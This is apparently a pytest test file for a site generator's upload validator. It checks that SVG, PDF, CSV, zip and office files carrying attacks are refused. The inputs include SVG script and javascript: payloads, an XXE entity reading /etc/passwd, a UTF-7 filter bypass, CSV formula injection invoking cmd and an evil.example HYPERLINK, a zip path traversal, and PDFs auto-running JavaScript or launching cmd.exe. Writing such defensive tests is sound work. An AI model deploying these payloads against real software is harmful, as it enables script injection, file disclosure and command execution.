"""What a bundle may publish (bridges.assets, bridges.svg, file_kinds.yml): attacks, and the plain
files that must still pass."""
from __future__ import annotations

import io
import zipfile

import pytest

from bridges.model.file_kinds import ROLES, kinds
from bridges.rules import assets
from bridges.rules.svg import SvgRefused, check_svg

PLAIN_SVG = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>
  <!-- a comment -->
  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
  <rect width="10" height="10" fill="url(#g)" style="fill: url('#g')"/>
  <use xlink:href="#g"/><text>one &amp; two</text>
</svg>"""
NS = 'xmlns="http://www.w3.org/2000/svg"'


def test_a_plain_svg_is_accepted():
    check_svg(PLAIN_SVG.encode())
    check_svg(f'<svg {NS} viewBox="0 0 1 1"><path d="M0 0h1v1z" fill="#c00"/></svg>'.encode())


# Drawings a browser would run, or that load from elsewhere, or that a pattern could misread.
REFUSED_SVG = {
    "script": f"<svg {NS}><script>alert(1)</script></svg>",
    "prefixed script": "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>",
    "xhtml script": f"<svg {NS}><h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script></svg>",
    "script in CDATA": f"<svg {NS}><script><![CDATA[alert(1)]]></script></svg>",
    "handler": f"<svg {NS} onload='alert(1)'/>",
    "handler in capitals": f"<svg {NS}><rect ONCLICK='x'/></svg>",
    "link": f"<svg {NS}><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "entity-escaped link": f"<svg {NS}><a href='&#106;avascript:alert(1)'>x</a></svg>",
    "image": f"<svg {NS}><image href='https://t.example/p.png'/></svg>",
    "use of another file": f"<svg {NS} xmlns:x='http://www.w3.org/1999/xlink'><use x:href='other.svg#icon'/></svg>",
    "use of a data URL": f"<svg {NS}><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "remote fill": f"<svg {NS}><rect fill=\"url('https://t.example/x')\"/></svg>",
    "remote style": f"<svg {NS}><rect style=\"fill:url(https://t.example/x)\"/></svg>",
    "escaped url in style": f"<svg {NS}><rect style=\"fill:\\75rl(https://t.example/x)\"/></svg>",
    "style element": f"<svg {NS}><style>@import 'x.css';</style></svg>",
    "foreignObject": f"<svg {NS}><foreignObject><p>x</p></foreignObject></svg>",
    "animation of href": f"<svg {NS}><set attributeName='href' to='javascript:x'/></svg>",
    "animate": f"<svg {NS}><animate attributeName='fill' values='red'/></svg>",
    "entity": f"<!DOCTYPE svg [<!ENTITY a 'b'>]><svg {NS}>&a;</svg>",
    "external entity": f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg {NS}>&a;</svg>",
    "stylesheet instruction": f"<?xml-stylesheet href='https://t.example/s.xsl' type='text/xsl'?><svg {NS}/>",
    "no namespace": "<svg><rect/></svg>",
    "XHTML document": "<html xmlns='http://www.w3.org/1999/xhtml'><body><script>alert(1)</script></body></html>",
    "XSLT": "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>",
    "Inkscape attributes": f"<svg {NS} xmlns:i='http://www.inkscape.org/namespaces/inkscape' i:version='1'/>",
    "XHTML inside metadata": (f"<svg {NS}><metadata><h:iframe xmlns:h='http://www.w3.org/1999/xhtml' "
                              "src='javascript:alert(1)'/></metadata></svg>"),
    "not XML": f"<svg {NS}><rect></svg>",
}


@pytest.mark.parametrize("name", REFUSED_SVG)
def test_an_svg_that_is_not_plainly_a_picture_is_refused(name):
    with pytest.raises(SvgRefused):
        check_svg(REFUSED_SVG[name].encode())


def test_the_refusal_says_what_was_found():
    for svg, expected in ((REFUSED_SVG["script"], "<script>"), (REFUSED_SVG["handler"], "onload"),
                          (REFUSED_SVG["entity"], "<!ENTITY>"), (REFUSED_SVG["image"], "<image>"),
                          (REFUSED_SVG["remote fill"], "url(https://t.example/x)")):
        with pytest.raises(SvgRefused, match=expected.replace("(", r"\(").replace(")", r"\)")):
            check_svg(svg.encode())


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-7", "iso-8859-1", "windows-1252", "utf-32"])
def test_an_svg_in_another_encoding_is_refused_even_when_a_script_is_split_by_it(encoding):
    # In UTF-7, "+ADw-script+AD4-" is "<script>": a pattern looking for UTF-8 "<script" misses it.
    body = f'<?xml version="1.0" encoding="{encoding}"?><svg {NS}><rect/>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>'
    data = body.encode(encoding if encoding != "utf-7" else "ascii")
    with pytest.raises(SvgRefused):
        check_svg(data)


def test_an_svg_with_bytes_that_are_not_utf8_is_refused():
    with pytest.raises(SvgRefused, match="not UTF-8"):
        check_svg(f"<svg {NS}><text>caf\xe9</text></svg>".encode("latin-1"))


# --- kinds of file -------------------------------------------------------------------------

PICTURES = ("jpeg", "png", "webp", "svg")
DOWNLOADS = ("pdf", "odt", "docx", "odp", "pptx", "epub", "zip", "txt", "csv")


def _zip(members) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def _png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "PNG")
    return buffer.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
DOCX = _zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")])
ODT = _zip([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>")])
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 100 + b"This program cannot be run in DOS mode"


@pytest.mark.parametrize("name,data", [
    ("files/guide.pdf", PDF), ("files/guide.docx", DOCX), ("files/guide.odt", ODT),
    ("files/notes.txt", "Plain notes, in UTF-8: é, ع.\n".encode()), ("files/table.csv", b"a,b\n1,2\n"),
    ("files/kit.zip", _zip([("a/guide.pdf", PDF), ("a/notes.txt", b"hello")])),
])
def test_declared_documents_pass(name, data):
    assert assets.check_file(name, data, DOWNLOADS).key == name.rsplit(".", 1)[1]


@pytest.mark.parametrize("name,data,code", [
    ("files/setup.exe", EXE, "file_kind_refused"),
    ("files/run.bat", b"@echo off\r\ndel /q *\r\n", "file_kind_refused"),
    ("files/page.md", b"---\ntemplate: redirect.html\nlocation: x\n---\n", "file_kind_refused"),
    ("files/feed.xml", b"<?xml version='1.0'?><rss/>", "file_kind_refused"),
    ("files/page.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "file_kind_refused"),
    ("files/photo.jfif", b"\xff\xd8\xff\xe0\x00\x10JFIF", "file_kind_refused"),
    ("files/photo.tiff", b"II*\x00\x08\x00\x00\x00", "file_kind_refused"),
    ("files/guide.pdf", b"<html><script>alert(1)</script></html>", "file_kind_mismatch"),
    ("files/guide.pdf", EXE, "file_kind_mismatch"),
    ("files/guide.docx", EXE, "file_kind_mismatch"),
    ("files/guide.docx", _zip([("evil.exe", EXE)]), "file_kind_mismatch"),
    ("files/notes.txt", PDF.replace(b"\n", b"\x00"), "file_kind_mismatch"),
    ("files/notes.txt", "caf\xe9".encode("latin-1"), "file_kind_mismatch"),
    ("files/table.csv", _png(), "file_kind_mismatch"),
    ("files/kit.zip", _zip([("guide.pdf", PDF), ("setup.exe", EXE)]), "archive_member_refused"),
    ("files/kit.zip", _zip([("run.bat", b"@echo off")]), "archive_member_refused"),
    ("files/kit.zip", _zip([("index.html", b"<script>alert(1)</script>")]), "archive_member_refused"),
    ("files/kit.zip", _zip([("fake.pdf", EXE)]), "archive_member_refused"),
    ("files/kit.zip", _zip([("../../escape.txt", b"x")]), "archive_member_refused"),
    ("files/kit.zip", _zip([("inner.zip", _zip([("a.pdf", PDF)]))]), "archive_member_refused"),
    ("files/kit.zip", b"PK\x03\x04 broken", "file_kind_mismatch"),
])
def test_other_files_are_refused_with_what_they_are(name, data, code):
    with pytest.raises(assets.Refused) as refused:
        assets.check_file(name, data, DOWNLOADS + PICTURES)
    assert refused.value.code == code, refused.value.params


def test_a_download_kind_is_not_a_picture_and_the_reverse():
    with pytest.raises(assets.Refused):
        assets.check_file("images/guide.pdf", PDF, PICTURES)
    with pytest.raises(assets.Refused):
        assets.check_file("files/photo.png", _png(), DOWNLOADS)
    assert assets.check_file("files/photo.png", _png(), PICTURES).raster


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    buffer = io.BytesIO()
    # The fastest compression still packs 210 MB into under 1 MB: a bomb, made in half the time.
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("big.txt", b"a" * 210_000_000)
    assert len(buffer.getvalue()) < 1_000_000
    with pytest.raises(assets.Refused) as refused:
        assets.check_file("files/kit.zip", buffer.getvalue(), DOWNLOADS)
    assert refused.value.code == "archive_too_large"


def test_every_kind_in_the_taxonomy_is_described():
    import yaml

    from conftest import REPO

    taxonomy = yaml.safe_load((REPO / "content/taxonomy.yml").read_text(encoding="utf-8"))
    for key, content_type in taxonomy["content_types"].items():
        for role in ROLES:
            assert content_type["files"][role], (key, role)
            assert set(content_type["files"][role]) <= set(kinds()), (key, role)
    assert "exe" not in str(kinds()) and "html" not in str(kinds())


def test_the_generator_copies_only_used_files_even_when_the_check_is_skipped(repo, tmp_path):
    """Defence in depth: were the check bypassed, a Markdown file, a program or an unused file in a
    bundle would still not reach docs/ (where MkDocs would make the Markdown a page)."""
    from bridges.outputs.generate import write_site
    from bridges.pipeline import load_and_check
    from hostile.cases import EXE, _camera_photo

    folder = repo.story()
    (folder / "files").mkdir()
    (folder / "files" / "x.md").write_text("---\ntemplate: redirect.html\nlocation: x\n---\n", encoding="utf-8")
    (folder / "files" / "setup.exe").write_bytes(EXE)
    (folder / "files" / "guide.pdf").write_bytes(PDF)
    (folder / "images").mkdir()
    (folder / "images" / "unused.jpg").write_bytes(_camera_photo("JPEG"))
    meta = folder / "meta.yml"
    meta.write_text(meta.read_text() + "downloads:\n  - {file: files/guide.pdf, language: en}\n")
    checked = load_and_check(repo.root)
    assert {problem.code for problem in checked.errors} == {"markdown_in_bundle", "file_unused"}
    docs = tmp_path / "docs"
    write_site(checked.content, docs, tmp_path / "cache", languages=["en"])
    published = sorted(path.name for path in (docs / "case-studies" / "good-story").rglob("*") if path.is_file())
    assert "guide.pdf" in published
    assert not {"x.md", "setup.exe", "unused.jpg"} & set(published), published


# --- document properties: no one's name is published with a file ----------------------------

CORE = ('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Guide</dc:title>{}</cp:coreProperties>')
META = ('<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        '<office:meta><dc:title>Guide</dc:title>{}</office:meta></office:document-meta>')


def _pdf(author: str | None = None, xmp_creator: str | None = None) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import NameObject, StreamObject

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_metadata({"/Title": "Guide", "/Producer": "LibreOffice", **({"/Author": author} if author else {})})
    if xmp_creator:
        stream = StreamObject()
        stream.set_data(('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
                         '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq>'
                         f'<rdf:li>{xmp_creator}</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>').encode())
        writer._root_object[NameObject("/Metadata")] = writer._add_object(stream)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("name,data", [
    ("files/story.docx", _zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"),
                               ("docProps/core.xml", CORE.format("<dc:creator>Amira K.</dc:creator>"))])),
    ("files/story.docx", _zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"),
                               ("docProps/core.xml", CORE.format("<cp:lastModifiedBy>amira.k</cp:lastModifiedBy>"))])),
    ("files/story.odt", _zip([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>"),
                              ("meta.xml", META.format("<meta:initial-creator>Amira K.</meta:initial-creator>"))])),
    ("files/story.pdf", _pdf(author="Amira K.")),
    ("files/story.pdf", _pdf(xmp_creator="Amira K.")),
    ("files/kit.zip", _zip([("story.pdf", _pdf(author="Amira K."))])),
])
def test_a_document_whose_properties_name_a_person_is_refused_without_repeating_the_name(name, data):
    with pytest.raises(assets.Refused) as refused:
        assets.check_file(name, data, DOWNLOADS)
    assert refused.value.code in ("document_names_person", "archive_member_refused"), refused.value.params
    assert "Amira" not in str(refused.value.params) and "amira" not in str(refused.value.params)


def test_documents_with_empty_or_impersonal_properties_pass():
    docx = _zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"),
                 ("docProps/core.xml", CORE.format("<dc:creator></dc:creator><cp:lastModifiedBy/>"))])
    assert assets.check_file("files/guide.docx", docx, DOWNLOADS).key == "docx"
    assert assets.check_file("files/guide.pdf", _pdf(), DOWNLOADS).key == "pdf"


def test_a_drawing_whose_metadata_names_its_maker_is_refused():
    drawing = (f'<svg {NS}><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
               'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#"><cc:Work>'
               '<dc:creator><cc:Agent><dc:title>Amira K.</dc:title></cc:Agent></dc:creator></cc:Work></rdf:RDF>'
               '</metadata><rect width="1" height="1"/></svg>')
    with pytest.raises(assets.Refused) as refused:
        assets.check_file("images/map.svg", drawing.encode(), PICTURES)
    assert refused.value.code == "document_names_person" and "Amira" not in str(refused.value.params)
    assert assets.check_file("images/map.svg", PLAIN_SVG.encode(), PICTURES).key == "svg"


@pytest.mark.parametrize("table", [
    b"name,link\nGuide,=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")\n",
    b"a,b\n1,=cmd|' /C calc'!A0\n",
    b"a\n@SUM(1+1)*cmd|' /C calc'!A0\n",
    b"a\n\"+1+cmd|' /C calc'!A0\"\n",
    b"a\n-2+3+cmd|' /C calc'!A0\n",
])
def test_a_table_with_a_formula_is_refused(table):
    with pytest.raises(assets.Refused) as refused:
        assets.check_file("files/table.csv", table, DOWNLOADS)
    assert refused.value.code == "csv_formula", refused.value.params


def test_a_table_of_values_passes():
    table = "year,change,share,note\n2020,-12,+3.5,plain text\n2021,-0.5,12%, = after a space\n".encode()
    assert assets.check_file("files/table.csv", table, DOWNLOADS).key == "csv"


def test_a_table_that_cannot_be_read_is_refused_not_a_crash():
    with pytest.raises(assets.Refused) as refused:
        assets.check_file("files/table.csv", b'a\n"' + b"x" * 200_000 + b'"\n', DOWNLOADS)
    assert refused.value.code == "file_kind_mismatch"


@pytest.mark.parametrize("name", ["a\u202egnp.exe.png", "CON.png", "nul", "com1.txt", "photo.png.", "photo.png ",
                                  "-rf.png", ".hidden.png", "a\u200bb.png", "a:b.png", "C:", "x\u2044y.png", ".."])
def test_a_name_that_is_not_plain_is_refused(name):
    assert not assets.plain_file_name(name)


@pytest.mark.parametrize("name", ["market-stall.jpg", "Guide 2024.pdf", "سوق.jpg", "étal_marché.png", "a.b.c.csv",
                                  "console.png", "nullable.txt"])
def test_plain_names_in_any_script_pass(name):
    assert assets.plain_file_name(name)


@pytest.mark.parametrize("member", ["C:\\Windows\\x.txt", "a/CON.txt", "notes\u202etxt.pdf"])
def test_an_archive_member_whose_name_is_not_plain_is_refused(member):
    with pytest.raises(assets.Refused) as refused:
        assets.check_file("files/kit.zip", _zip([(member, b"hello")]), DOWNLOADS)
    assert refused.value.code == "archive_member_refused"


def _active_pdf(how: str) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    if how == "open":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    elif how == "names":  # a document-level script, run when the file opens
        names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(script)])}))})
        writer._root_object[NameObject("/Names")] = writer._add_object(names)
    elif how == "attachment":
        writer.add_attachment("setup.exe", b"MZ")
    elif how == "launch":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("how", ["open", "names", "attachment", "launch"])
def test_a_pdf_that_runs_or_opens_something_by_itself_is_refused(how):
    with pytest.raises(assets.Refused) as refused:
        assets.check_file("files/guide.pdf", _active_pdf(how), DOWNLOADS)
    assert refused.value.code == "pdf_active", refused.value.params
